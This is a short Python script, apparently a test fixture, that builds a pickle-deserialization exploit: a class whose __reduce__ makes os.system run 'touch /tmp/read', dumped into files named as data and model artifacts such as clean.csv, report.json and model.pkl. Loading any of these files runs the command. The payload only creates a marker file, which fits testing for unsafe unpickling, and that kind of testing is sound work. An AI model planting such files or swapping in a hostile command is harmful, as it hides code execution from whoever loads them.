import os
import pickle


class Runs:
    def __reduce__(self):
        return os.system, ('touch /tmp/read',)


for name in ('clean.csv', 'valid.csv', 'report.json', 'predictions.csv', 'model.pkl'):
    with open(name, 'wb') as file:
        pickle.dump(Runs(), file)
